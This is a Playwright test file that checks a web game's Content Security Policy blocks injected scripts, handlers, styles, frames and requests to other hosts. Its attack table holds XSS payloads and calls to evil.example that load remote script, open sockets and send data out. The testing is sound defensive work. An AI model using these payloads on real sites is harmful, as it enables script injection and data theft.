"""The page's policy: nothing runs, loads or reports elsewhere but what the site itself ships.

Every other test helps: what the policy blocks is an error in the console, and no test passes with one there.
"""

from __future__ import annotations

import base64
import hashlib
import re

import pytest
from playwright.sync_api import Page, Route, expect

from e2e import places
from e2e.conftest import Pages
from e2e.games import played
from e2e.table import Table

BLOCKED = r"(?i)content security policy"
EVIL = '<img src="assets/icons/nothing.png" onerror="globalThis.struck = true">'
# Collects what the policy refused, so that a test can wait for it.
REFUSALS = """() => {
  globalThis.refused = [];
  addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
}"""

# What somebody could smuggle in, and the rule that has to stop it.
ATTACKS = {
    "a handler in markup": (f"document.body.insertAdjacentHTML('beforeend', '{EVIL}')", "script-src-attr"),
    "a handler set as an attribute": (
        "document.body.setAttribute('onclick', 'globalThis.struck = true'); document.body.click()",
        "script-src-attr",
    ),
    "a script written into the page": (
        "document.head.append(Object.assign(document.createElement('script'),"
        " { textContent: 'globalThis.struck = true' }))",
        "script-src-elem",
    ),
    "a script from another host": (
        "document.head.append(Object.assign(document.createElement('script'),"
        " { src: 'https://evil.example/strike.js' }))",
        "script-src-elem",
    ),
    "a script out of memory": (
        "import(URL.createObjectURL(new Blob(['globalThis.struck = true'], { type: 'text/javascript' })))"
        ".catch(() => undefined)",
        "script-src-elem",
    ),
    "text run as a program": ("try { new Function('globalThis.struck = true')() } catch {}", "script-src"),
    "a style written into the page": (
        "document.head.append(Object.assign(document.createElement('style'),"
        " { textContent: ':root { --struck: 1 }' }))",
        "style-src-elem",
    ),
    "a message to another host": (
        "fetch('https://evil.example/?' + localStorage.length).catch(() => undefined)",
        "connect-src",
    ),
    "a socket to a host that is no relay of ours": (
        "try { new WebSocket('wss://evil.example/') } catch {}",
        "connect-src",
    ),
    "a picture from another host": (
        "document.body.append(Object.assign(new Image(), { src: 'https://evil.example/pixel.gif' }))",
        "img-src",
    ),
    "another base for every address": (
        "document.head.prepend(Object.assign(document.createElement('base'),"
        " { href: 'https://evil.example/' }))",
        "base-uri",
    ),
    "a form that sends elsewhere": (
        "document.body.insertAdjacentHTML('beforeend', '<form action=\"https://evil.example/\"></form>');"
        " document.forms[0].submit()",
        "form-action",
    ),
    "a page in the page": (
        "document.body.append(Object.assign(document.createElement('iframe'), { src: 'index.html' }))",
        "frame-src",
    ),
}


@pytest.fixture(scope="module")
def quiet(shared_pages: Pages) -> Page:
    """The booted page, where refusals are expected; another host would answer, if it were asked."""
    page = shared_pages()
    page.route("https://evil.example/**", _strike)
    for expected in (
        BLOCKED,
        r"404| csp$",
        r"https://evil\.example/",
    ):  # refused requests are told of as well
        shared_pages.watch(page).allow(expected)
    page.evaluate(REFUSALS)
    return page


reached: list[str] = []
"""What came as far as the other host."""


def _strike(route: Route) -> None:
    reached.append(route.request.url)
    route.fulfill(content_type="text/javascript", body="globalThis.struck = true")


@pytest.mark.parametrize("name", ATTACKS)
def test_the_policy_stops(quiet: Page, shared_pages: Pages, name: str) -> None:
    attack, rule = ATTACKS[name]
    before = quiet.url
    quiet.evaluate("refused.length = 0")
    quiet.evaluate(f"() => {{ setTimeout(() => {{ {attack} }}) }}")  # what the driver itself runs, it may
    quiet.wait_for_function("(rule) => refused.includes(rule)", arg=rule)
    assert quiet.evaluate("globalThis.struck") is None
    assert quiet.url == before
    assert reached == [], "another host was asked"
    assert not shared_pages.verdict()


def test_a_name_that_is_markup_is_only_a_name(table: Table) -> None:
    """It is written as text; were it not, the policy would stop its handler, loudly."""
    table.shelve(played("wales", 5, players=2), title=EVIL)
    expect(table.page.locator(".slot")).to_contain_text("onerror")
    table.resume()
    expect(table.page.locator(".table")).to_be_visible()
    assert table.page.locator("#root img[onerror]").count() == 0
    assert table.page.evaluate("globalThis.struck") is None


def test_the_policy_comes_before_anything_it_should_govern(open_page: Pages) -> None:
    """A policy in the page governs only what comes after it."""
    page = open_page.new(java_script_enabled=False)
    open_page.watch(page).allow(r"csp$")
    source = page.request.get(open_page.home).text()
    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', source)
    assert policy, "there is no policy"
    assert not re.search(r"<(script|link|style|img|base)\b", source[: policy.start()])
    assert "unsafe-inline" not in policy[1] and "'unsafe-eval'" not in policy[1]
    rules = {rule.split()[0]: rule.split()[1:] for rule in policy[1].split(";")}
    assert rules["default-src"] == ["'self'"]
    assert rules["script-src"][:2] == ["'self'", "'wasm-unsafe-eval'"]
    early, imports = rules["script-src"][2:]
    for hashed, tag in ((imports, '<script type="importmap">'), (early, "<script>")):
        assert source.count(tag) == 1
        written = source.split(tag)[1].split("</script>")[0]
        assert hashed == f"'sha256-{base64.b64encode(hashlib.sha256(written.encode()).digest()).decode()}'"
    assert not re.search(r'\s(on\w+|style)="', source), "the policy would refuse it"
    # Sockets to relays of a person's own; web/early.js allows no others (tested above).
    assert rules.pop("connect-src") == ["'self'", "wss:", "ws:"]
    rules["script-src"] = rules["script-src"][:2]
    assert all(
        value in ("'self'", "'none'", "'wasm-unsafe-eval'") for rule in rules.values() for value in rule
    )


def test_python_and_its_worker_live_within_the_policy(booted: Page) -> None:
    """Nothing was refused while they start; the console is looked at afterwards."""
    booted.click(places.ASK_WORKER)
    expect(booted.locator(places.ANSWER)).to_have_text(re.compile("^Hail, Arthur"))
